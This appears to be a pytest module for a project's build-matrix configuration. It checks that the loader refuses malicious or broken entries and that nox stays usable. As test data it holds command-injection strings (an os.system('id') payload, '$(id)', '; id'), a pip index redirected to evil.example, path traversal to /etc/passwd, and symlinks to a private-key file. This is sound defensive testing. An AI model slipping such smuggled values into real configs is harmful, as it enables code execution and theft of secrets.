"""Faults an attacker or a careless operator can put into matrix.yaml or onto the runner: code in a
version, files from outside the checkout, names docker refuses, expectations nothing can meet, labels
that reach no runner of the cell's kind, and a broken matrix.yaml that must not take nox down."""

from __future__ import annotations

import copy
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from gdn.matrix.config import MatrixConfigError, cell_files, load_matrix, parse_matrix

pytestmark = pytest.mark.tooling

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = yaml.safe_load((ROOT / "matrix.yaml").read_text())
DOCKERFILES = sorted((ROOT / "docker").glob("*.Dockerfile"))


def mutated(cell_name: str, /, **changes) -> dict:
    raw = copy.deepcopy(SHIPPED)
    cell = next(c for c in raw["cells"] if c["name"] == cell_name)
    for key, value in changes.items():
        if key.startswith("versions."):
            cell["versions"][key.split(".", 1)[1]] = value
        else:
            cell[key] = value
    return raw


INJECTION = "3.12'; import os; os.system('id'); '"


@pytest.mark.parametrize(
    ("cell", "key", "value"),
    [
        ("cuda-triton36", "python", INJECTION),
        ("cuda-triton36", "cuda", "13.0$(id)"),
        ("npu-2610", "cann", "9.1.0; id"),
        ("cpu", "torch", "2.13.0 --index-url https://evil.example/simple"),
        ("cpu", "transformers", "5.2.0; os_name == 'posix'"),
        ("cpu", "triton", "v3.9.0"),  # a version, but not as the lock and tag would write it
    ],
)
def test_a_version_that_is_not_a_version_is_refused_naming_cell_and_key(cell, key, value):
    with pytest.raises(MatrixConfigError, match=rf"cell '{cell}': key 'versions\.{key}': .*is not a"):
        parse_matrix(mutated(cell, **{f"versions.{key}": value}))


@pytest.mark.parametrize("value", ["3.12", "8.0.RC1", "8.0.RC2.beta1", "9.1.0"])
def test_real_base_image_versions_load(value):
    key = "python" if value == "3.12" else "cann"
    parse_matrix(mutated("npu-2610", **{f"versions.{key}": value}))


def python_c_code(dockerfile: Path) -> list[str]:
    """The code of every `python -c` / `python3 -c` in the Dockerfile's instructions."""
    text = re.sub(r"\\\n", " ", dockerfile.read_text())
    return [m.group(2) for m in re.finditer(r"python3? -c ([\"'])(.*?)(?<!\\)\1", text)]


def test_the_scanner_sees_every_python_c():
    assert all(python_c_code(path) for path in DOCKERFILES if path.name != "npu.Dockerfile")
    spliced = "RUN python3 -c \"import sys; sys.exit('${PYTHON_VERSION}' != '3.12')\"\n"
    assert python_c_code_of(spliced) == ["import sys; sys.exit('${PYTHON_VERSION}' != '3.12')"]


def python_c_code_of(text: str) -> list[str]:
    return [m.group(2) for m in re.finditer(r"python3? -c ([\"'])(.*?)(?<!\\)\1", text)]


@pytest.mark.parametrize("dockerfile", DOCKERFILES, ids=lambda path: path.name)
def test_no_build_arg_is_spliced_into_code_or_shell(dockerfile: Path):
    """Build args reach RUN lines only through the environment (os.environ in Python): a `$ARG` in a
    RUN line is shell code made from matrix.yaml, a `$` in `python -c` code is Python code made from it."""
    for code in python_c_code(dockerfile):
        assert "$" not in code, f"{dockerfile.name}: python -c code expands a variable: {code}"
    text = re.sub(r"\\\n", " ", dockerfile.read_text())
    args = set(re.findall(r"^ARG (\w+)", text, re.MULTILINE))
    for line in (line for line in text.splitlines() if line.startswith("RUN ")):
        used = {name for name in args if re.search(rf"\$\{{?{name}\b", line)}
        assert not used, f"{dockerfile.name}: a RUN line expands the build args {sorted(used)}: {line}"


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("dockerfile", "/etc/passwd", r"key 'dockerfile': .*not a relative path inside the checkout"),
        ("dockerfile", "../../etc/passwd", r"key 'dockerfile': .*not a relative path inside the checkout"),
        ("dockerfile", "docker/../../x.Dockerfile", r"key 'dockerfile': .*not a relative path inside the checkout"),
        ("wheels", ["../torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"], r"key 'wheels': .*not a file name"),
        ("wheels", ["/tmp/torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"], r"key 'wheels': .*not a file name"),
    ],
)
def test_paths_out_of_the_checkout_or_wheelhouse_are_refused(key, value, message):
    with pytest.raises(MatrixConfigError, match=rf"cell 'cpu': {message}"):
        parse_matrix(mutated("cpu", **{key: value}))


@pytest.mark.parametrize("key", ["wheelhouse", "locks"])
@pytest.mark.parametrize("value", ["/", "../elsewhere"])
def test_top_level_directories_stay_in_the_checkout(key, value):
    raw = copy.deepcopy(SHIPPED)
    raw[key] = value
    with pytest.raises(MatrixConfigError, match=rf"key '{key}': .*not a relative path inside the checkout"):
        parse_matrix(raw)


def test_a_symlink_out_of_the_checkout_or_wheelhouse_is_refused(tmp_path, monkeypatch):
    root, house, outside = tmp_path / "checkout", tmp_path / "wheelhouse", tmp_path / "secret"
    for directory in (root / "docker", root / "locks", house, outside):
        directory.mkdir(parents=True)
    (outside / "id_rsa").write_text("key")
    matrix = load_matrix(ROOT / "matrix.yaml")
    cell = matrix.cell("cpu")
    shutil.copyfile(ROOT / "locks" / "cpu.txt", root / "locks" / "cpu.txt")
    (root / cell.dockerfile).symlink_to(outside / "id_rsa")
    (house / cell.wheels[0]).write_bytes(b"wheel")
    monkeypatch.setenv("GDN_WHEELHOUSE", str(house))
    with pytest.raises(MatrixConfigError, match=r"cell 'cpu': key 'dockerfile': .* outside "):
        cell_files(matrix, cell, root)
    (root / cell.dockerfile).unlink()
    shutil.copyfile(ROOT / cell.dockerfile, root / cell.dockerfile)
    (house / cell.wheels[0]).unlink()
    (house / cell.wheels[0]).symlink_to(outside / "id_rsa")
    with pytest.raises(MatrixConfigError, match=r"cell 'cpu': key 'wheels\[0\]': .* outside "):
        cell_files(matrix, cell, root)
    (house / cell.wheels[0]).unlink()
    (house / cell.wheels[0]).write_bytes(b"wheel")
    assert cell_files(matrix, cell, root)["wheels[0]"] == house / cell.wheels[0]


@pytest.mark.parametrize(
    ("cell", "changes", "message"),
    [
        ("cpu", {"name": "a..b"}, r"cell 'a\.\.b': key 'name': .*cannot name an image"),
        ("cpu", {"name": "cpu-"}, r"cell 'cpu-': key 'name': .*cannot name an image"),
        ("cpu", {"name": "x" * 129}, r"key 'name'"),
        ("cpu", {"base_image": "Bookworm:local"}, r"cell 'cpu': key 'base_image': .*not an image reference"),
        ("cpu", {"base_image": "base:1 --network=host"}, r"cell 'cpu': key 'base_image': .*not an image reference"),
        (
            "npu-266",
            {"expect": [{"op": "chunk_gated_delta_rule", "backend": "ascend"}]},
            r"cell 'npu-266': key 'expect\.0\.backend': .*unknown backend 'ascend'",
        ),
        ("cpu", {"compute_mode": "fast"}, r"cell 'cpu': key 'compute_mode': .*unknown compute mode 'fast'"),
        ("cpu", {"probe_mode": "fast"}, r"cell 'cpu': key 'probe_mode': .*unknown compute mode 'fast'"),
        (
            "cuda-triton36",
            {"runner_labels": ["ubuntu-24.04"]},
            r"cell 'cuda-triton36'.*runner_labels: \['ubuntu-24.04'\] name GitHub-hosted runners",
        ),
        (
            "cuda-triton36",
            {"runner_labels": ["self-hosted", "linux-aarch64-a2-1"]},
            r"cell 'cuda-triton36'.*runner_labels: .* reach npu runners",
        ),
        ("cuda-triton39", {"runner_labels": ["self-hosted"]}, r"cell 'cuda-triton39'.*reach npu runners"),
        ("npu-266", {"runner_labels": ["self-hosted", "gpu"]}, r"cell 'npu-266'.*reach cuda runners"),
    ],
)
def test_accepted_but_wrong_matrix_entries_are_refused(cell, changes, message):
    with pytest.raises(MatrixConfigError, match=message):
        parse_matrix(mutated(cell, **changes))


def test_the_compute_modes_and_backends_a_cell_may_name_are_gdns():
    from gdn import resolve
    from gdn.backend_names import BACKEND_NAMES

    assert list(BACKEND_NAMES) == list(resolve.backends())
    assert parse_matrix(mutated("cpu", compute_mode="triton")).cell("cpu").compute_mode == "triton"


def test_a_site_label_for_an_accelerator_cell_is_its_own_business():
    cell = parse_matrix(mutated("npu-266", runner_labels=["ascend-lab-7"])).cell("npu-266")
    assert cell.runner_labels == ("ascend-lab-7",)


def test_unhashable_values_are_config_errors_not_crashes():
    with pytest.raises(MatrixConfigError, match=r"cell 'cpu': key 'device'"):
        parse_matrix(mutated("cpu", device=["cpu"]))


@pytest.fixture
def nox_copy(tmp_path: Path) -> Path:
    """The repository's noxfile beside the source it imports, nothing else of the checkout."""
    pytest.importorskip("nox", reason="nox (the test extra) is not installed")
    shutil.copyfile(ROOT / "noxfile.py", tmp_path / "noxfile.py")
    (tmp_path / "src").symlink_to(ROOT / "src")
    (tmp_path / "broken.yaml").write_text(
        yaml.safe_dump(mutated("cpu", **{"versions.python": INJECTION}), sort_keys=False)
    )
    return tmp_path


def nox(copy: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "GDN_MATRIX": str(copy / "broken.yaml")}
    command = [sys.executable, "-m", "nox", "-f", str(copy / "noxfile.py"), *args]
    return subprocess.run(command, cwd=copy, env=env, capture_output=True, text=True, timeout=120)


def test_a_broken_matrix_leaves_nox_usable_and_says_what_is_wrong(nox_copy: Path):
    listed = nox(nox_copy, "-l")
    assert listed.returncode == 0, listed.stderr
    assert "cell 'cpu': key 'versions.python'" in listed.stderr
    sessions = set(re.findall(r"^[*-] (\w[\w-]*)", listed.stdout, re.MULTILINE))
    assert {"tests", "lint", "kernels", "matrix", "report", "lock", "diff"} <= sessions
    assert "cpu" not in sessions and "local" not in sessions
    stand_in = nox(nox_copy, "-s", "matrix")
    assert stand_in.returncode == 1
    assert "Session matrix aborted: the matrix cannot be used" in stand_in.stderr
    assert "key 'versions.python'" in stand_in.stderr.split("Session matrix aborted")[1]
